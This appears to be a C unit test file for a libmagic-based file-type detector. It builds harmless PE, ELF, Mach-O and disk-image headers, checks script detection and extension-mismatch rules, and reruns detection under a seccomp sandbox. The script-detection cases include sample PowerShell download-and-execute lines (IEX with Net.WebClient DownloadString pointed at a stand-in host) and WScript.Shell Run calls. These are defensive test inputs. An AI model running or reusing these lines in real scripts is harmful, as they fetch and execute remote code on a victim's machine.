/*
 * test_filetype - true types with libmagic and our checks, and the
 * extension mismatch rule.
 *
 * Executables and disk images are built here, a few bytes each (headers
 * only: nothing here would run); documents and archives come from
 * tests/unit/data/. The last test detects everything again in a child
 * under a seccomp filter that traps any open, stat of a path, fork or
 * exec: libmagic must need none of them once loaded.
 */
#include "config.h"

#include <fcntl.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>

#include "common/buf.h"
#include "filters/filetype.h"
#include "tests/unit/check.h"
#include "tests/unit/test_support.h"

static struct filetype_detector *detector;

/* zeros - b holds n zero bytes */
static void zeros(struct buf *b, size_t n)
{
	buf_init(b);
	buf_reserve(b, n);
	memset(b->data, 0, n);
	b->len = n;
}

static void put32(struct buf *b, size_t off, uint32_t v)
{
	for (int i = 0; i < 4; i++)
		b->data[off + i] = (char)(v >> (8 * i));
}

/* pe - an MZ header whose e_lfanew points at a PE header at pe_at (size >= pe_at + 0x100) */
static void pe(struct buf *b, size_t size, size_t pe_at)
{
	zeros(b, size);
	memcpy(b->data, "MZ\x90\0", 4);
	put32(b, 0x3c, (uint32_t)pe_at);
	memcpy(b->data + pe_at, "PE\0\0\x4c\x01", 6); /* i386 */
	b->data[pe_at + 20] = (char)0xe0;             /* optional header size */
	b->data[pe_at + 22] = 0x02;                   /* executable image */
	memcpy(b->data + pe_at + 24, "\x0b\x01", 2);  /* PE32 */
}

/* elf - an ELF64 header for an x86-64 executable */
static void elf(struct buf *b)
{
	zeros(b, 128);
	memcpy(b->data, "\177ELF\x02\x01\x01", 7);
	b->data[16] = 2;    /* ET_EXEC */
	b->data[18] = 0x3e; /* x86-64 */
	b->data[20] = 1;
	b->data[52] = 64; /* header size */
}

static void text(struct buf *b, const char *s)
{
	buf_init(b);
	buf_append_str(b, s);
}

/* detect - the type of b */
static struct filetype detect(const struct buf *b)
{
	struct filetype t;

	filetype_detect(detector, b->data, b->len, &t);
	return t;
}

/* flags_are - do t's flags match "xsaOopd" letters (executable, script, ...)? */
static bool flags_are(const struct filetype *t, const char *want)
{
	char got[8];
	size_t n = 0;

	if (t->executable)
		got[n++] = 'x';
	if (t->script)
		got[n++] = 's';
	if (t->archive)
		got[n++] = 'a';
	if (t->ole2)
		got[n++] = 'O';
	if (t->ooxml)
		got[n++] = 'o';
	if (t->pdf)
		got[n++] = 'p';
	if (t->disk_image)
		got[n++] = 'd';
	got[n] = '\0';
	if (strcmp(got, want) != 0) {
		fprintf(stderr, "  flags \"%s\", want \"%s\" (%s)\n", got, want, t->mime);
		return false;
	}
	return true;
}

/* printable - is s NUL-terminated printable ASCII within size? */
static bool printable(const char *s, size_t size)
{
	size_t i = 0;

	for (; i < size && s[i]; i++)
		if (s[i] < 0x20 || s[i] > 0x7e)
			return false;
	return i < size;
}

static void test_executables(void)
{
	struct buf b;
	struct filetype t;

	pe(&b, 512, 0x80);
	t = detect(&b);
	CHECK(flags_are(&t, "x"));
	CHECK(printable(t.mime, sizeof(t.mime)));
	buf_free(&b);

	/* PE header far past what libmagic is shown: still executable */
	pe(&b, FILETYPE_MAX_BYTES + 4096, FILETYPE_MAX_BYTES + 1024);
	t = detect(&b);
	CHECK(t.executable);
	buf_free(&b);

	elf(&b);
	t = detect(&b);
	CHECK(flags_are(&t, "x"));
	buf_free(&b);

	text(&b, "");
	buf_append(&b, "\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0", 16); /* Mach-O 64 */
	buf_append(&b, "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", 16);
	CHECK(detect(&b).executable);
	buf_free(&b);

	text(&b, "");
	buf_append(&b, "\xca\xfe\xba\xbe\0\0\0\x34\0\x10", 10); /* a Java 8 class */
	CHECK(detect(&b).executable);
	buf_free(&b);

	zeros(&b, 0x4c + 16);
	memcpy(b.data, "\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46", 20); /* .lnk */
	CHECK(detect(&b).executable);
	buf_free(&b);
}

static void test_documents(void)
{
	static const struct {
		const char *file, *flags, *mime;
	} cases[] = {
	    {"ole-novba.bin", "O", "application/msword"},
	    {"ole-vba-excel.bin", "O", "application/vnd.ms-excel"},
	    {"ooxml-hello.docx", "o", NULL},
	    {"ooxml-hello.docm", "o", NULL},
	    {"arch-plain.zip", "a", "application/zip"},
	    {"arch-plain.7z", "a", "application/x-7z-compressed"},
	    {"arch-plain.tar.gz", "a", "application/gzip"},
	    {"arch-lone.txt.xz", "a", "application/x-xz"},
	};
	struct buf b;
	struct filetype t;

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		if (!read_fixture(cases[i].file, &b))
			continue;
		t = detect(&b);
		CHECK(flags_are(&t, cases[i].flags));
		if (cases[i].mime)
			CHECK_STR(t.mime, cases[i].mime);
		buf_free(&b);
	}
	text(&b, "%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n");
	t = detect(&b);
	CHECK(flags_are(&t, "p"));
	CHECK_STR(t.mime, "application/pdf");
	buf_free(&b);
	/* readers find the header anywhere in the first 1024 bytes */
	text(&b, "junk junk junk\n%PDF-1.7\n");
	CHECK(detect(&b).pdf);
	buf_free(&b);
}

/* disk_image - zeros with magic at off, n bytes in all */
static bool disk_image(size_t n, size_t off, const char *magic, size_t len)
{
	struct buf b;
	bool yes;

	zeros(&b, n);
	memcpy(b.data + off, magic, len);
	yes = detect(&b).disk_image;
	buf_free(&b);
	return yes;
}

static void test_disk_images(void)
{
	struct buf b;

	CHECK(disk_image(0x9000, 0x8000,
	                 "\x01"
	                 "CD001\x01",
	                 7));                                /* ISO 9660 */
	CHECK(disk_image(0x9800, 0x8800, "\0NSR02\x01", 7)); /* UDF */
	CHECK(disk_image(8192, 512, "EFI PART", 8));         /* GPT */
	CHECK(disk_image(8192, 0, "vhdxfile", 8));           /* VHDX */
	CHECK(disk_image(8192, 8192 - 512, "conectix", 8));  /* fixed VHD: footer */
	CHECK(disk_image(8192, 8192 - 512, "koly", 4));      /* DMG: trailer */
	CHECK(!disk_image(8192, 100, "conectix", 8));

	zeros(&b, 1024); /* an MBR with one partition */
	b.data[446] = (char)0x80;
	b.data[446 + 4] = 0x07;
	put32(&b, 446 + 8, 2048);
	put32(&b, 446 + 12, 204800);
	memcpy(b.data + 510, "\x55\xaa", 2);
	CHECK(detect(&b).disk_image);
	b.data[446 + 16] = 0x42; /* a status byte no MBR has */
	CHECK(!detect(&b).disk_image);
	buf_free(&b);
}

static void test_scripts(void)
{
	static const struct {
		const char *text;
		bool script;
	} cases[] = {
	    {"#!/bin/sh\necho hi\n", true},
	    {"#!/usr/bin/env python3\nprint(1)\n", true},
	    {"\xef\xbb\xbf  \n#!/bin/bash\nls\n", true},
	    {"@echo off\r\nstart calc.exe\r\n", true},
	    {"\r\n@ECHO OFF\r\ndel x\r\n", true},
	    {"@echo\r\n", true},
	    {"Set o = CreateObject(\"WScript.Shell\")\r\no.Run \"calc\"\r\n", true},
	    {"var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"calc\");\n", true},
	    {"$c = New-Object Net.WebClient; IEX($c.DownloadString('http://x.test/'))\n", true},
	    {"<html><head><HTA:APPLICATION ID=\"x\"/></head></html>\n", true},
	    {"<job id=\"a\"><script language=\"JScript\">WScript.Echo(1)</script></job>\n", true},
	    {"Hello,\n\nplease find the invoice attached.\n", false},
	    {"Do not call CreateObject( from a macro, it is slow.\n", false}, /* one idiom */
	    {"@echoes of a past\n", false},
	    {"<html><body><script>alert(1)</script></body></html>\n", false},
	};
	struct buf b;

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct filetype t;

		text(&b, cases[i].text);
		t = detect(&b);
		CHECK_INT(t.script, cases[i].script);
		CHECK(!t.executable && !t.archive);
		if (t.script != cases[i].script)
			fprintf(stderr, "  (script case %zu: %s)\n", i, t.mime);
		buf_free(&b);
	}
	/* PowerShell as Windows saves it: UTF-16LE with a BOM */
	text(&b, "\xff\xfe");
	for (const char *p = "IEX (New-Object Net.WebClient).DownloadString('http://x.test/')\r\n";
	     *p; p++)
		buf_append(&b, (char[]){*p, 0}, 2);
	CHECK(detect(&b).script);
	buf_free(&b);
}

static void test_plain(void)
{
	struct filetype t;
	struct buf b;

	filetype_detect(detector, NULL, 0, &t);
	CHECK(flags_are(&t, ""));
	CHECK_STR(t.mime, "application/x-empty");
	filetype_detect(detector, "", 0, &t);
	CHECK(flags_are(&t, ""));
	text(&b, "hello, world\n");
	t = detect(&b);
	CHECK(flags_are(&t, ""));
	CHECK_STR(t.mime, "text/plain");
	buf_free(&b);
	zeros(&b, 4096);
	t = detect(&b);
	CHECK(flags_are(&t, ""));
	buf_free(&b);
}

static void test_ext_mismatch(void)
{
	struct filetype exe = {.executable = true}, script = {.script = true}, doc = {.pdf = true};
	static const struct {
		const char *ext;
		bool harmless;
	} exts[] = {
	    {"pdf", true},   {".PDF", true}, {"txt", true},  {"docx", true}, {"xlsm", true},
	    {"jpg", true},   {"JPEG", true}, {"png", true},  {"gif", true},  {"zip", true},
	    {"7z", true},    {"mp4", true},  {"exe", false}, {"js", false},  {"vbs", false},
	    {"html", false}, {"dat", false}, {"", false},    {".", false},   {"pdf ", false},
	    {"pd", false},
	};

	for (size_t i = 0; i < sizeof(exts) / sizeof(exts[0]); i++) {
		CHECK_INT(filetype_ext_mismatch(exts[i].ext, &exe), exts[i].harmless);
		CHECK_INT(filetype_ext_mismatch(exts[i].ext, &script), exts[i].harmless);
		CHECK(!filetype_ext_mismatch(exts[i].ext, &doc));
	}
	CHECK(!filetype_ext_mismatch(NULL, &exe));
	CHECK(!filetype_ext_mismatch("pdf", NULL));
}

/* a PE under every name: executable, and a mismatch behind a harmless extension */
static void test_pe_any_name(void)
{
	static const char *const names[] = {"invoice.pdf", "photo.jpg", "notes.txt", "setup.exe"};
	struct buf b;
	struct filetype t;

	pe(&b, 1024, 0x80);
	t = detect(&b);
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		const char *ext = strrchr(names[i], '.') + 1;

		CHECK(t.executable);
		CHECK_INT(filetype_ext_mismatch(ext, &t), strcmp(ext, "exe") != 0);
	}
	buf_free(&b);
}

/* every kind of input again, in a child that may not open, stat, fork or exec */
static void test_sandboxed(void)
{
	static const char *const files[] = {
	    "ole-novba.bin",    "ole-vba-excel.bin",   "ooxml-hello.docx", "arch-plain.zip",
	    "arch-plain.7z",    "arch-plain.tar.gz",   "arch-lone.txt.gz", "arch-lone.txt.xz",
	    "arch-disk.iso.gz", "arch-bomb-bzip2.zip",
	};
	enum { N = sizeof(files) / sizeof(files[0]) };
	struct buf b[N + 4];
	pid_t pid;
	int status = 0;

	for (size_t i = 0; i < N; i++)
		read_fixture(files[i], &b[i]);
	pe(&b[N], 1024, 0x80);
	elf(&b[N + 1]);
	text(&b[N + 2], "#!/bin/sh\necho hi\n");
	text(&b[N + 3], "%PDF-1.4\n%%EOF\n");
	fflush(NULL);
	if ((pid = fork()) == 0) {
		struct filetype t;
		bool ok = true;

		if (!trap_file_syscalls())
			_exit(77);
		for (size_t i = 0; i < N + 4; i++) {
			filetype_detect(detector, b[i].data, b[i].len, &t);
			ok = ok && strcmp(t.mime, "application/octet-stream") != 0;
		}
		_exit(ok ? 0 : 1);
	}
	CHECK(pid > 0 && waitpid(pid, &status, 0) == pid);
	if (WIFEXITED(status) && WEXITSTATUS(status) == 77)
		printf("test_filetype: seccomp unavailable, sandboxed detection skipped\n");
	else
		CHECK(WIFEXITED(status) && WEXITSTATUS(status) == 0);
	for (size_t i = 0; i < N + 4; i++)
		buf_free(&b[i]);
}

int main(void)
{
	char *error = NULL;

	detector = filetype_new(&error);
	if (!detector) {
		fprintf(stderr, "test_filetype: %s\n", error);
		free(error);
		return 1;
	}
	test_executables();
	test_documents();
	test_disk_images();
	test_scripts();
	test_plain();
	test_ext_mismatch();
	test_pe_any_name();
	test_sandboxed();
	filetype_free(detector);
	return check_summary("test_filetype");
}
